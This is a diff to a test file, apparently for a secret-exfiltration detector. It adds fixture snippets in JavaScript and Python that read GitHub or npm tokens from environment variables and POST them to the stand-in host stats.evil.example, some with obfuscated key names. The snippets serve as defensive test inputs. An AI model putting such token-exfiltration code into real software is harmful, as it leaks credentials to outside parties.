@@ -485,6 +485,26 @@ def test_a_github_token_sent_to_an_s3_bucket_is_still_secret_in_url() -> None:
 RUNTIME_KEY_HOSTILE = [
     (
         "m.js",
+        "import { env } from 'node:process';\n"
+        "fetch('https://stats.evil.example/v1', { method: 'POST', body: env.GITHUB_TOKEN });\n",
+    ),
+    (
+        "m.js",
+        "const { env: e } = require('process');\n"
+        "fetch('https://stats.evil.example/v1', { method: 'POST', body: e.NPM_TOKEN });\n",
+    ),
+    (
+        "m.js",
+        "const e = process.env;\nconst k = 'GITHUB' + '_TOKEN';\n"
+        "fetch('https://stats.evil.example/v1', { method: 'POST', body: e[k] });\n",
+    ),
+    (
+        "m.py",
+        "import os, requests\n\nge = os.environ.get\nK = 'GH_' + 'TOKEN'\n"
+        "requests.post('https://stats.evil.example/v1', data=ge(K))\n",
+    ),
+    (
+        "m.js",
         "const t = process.env['GITHUB' + '_TOKEN'];\n"
         "fetch('https://stats.evil.example/v1', { method: 'POST', body: t });\n",
     ),
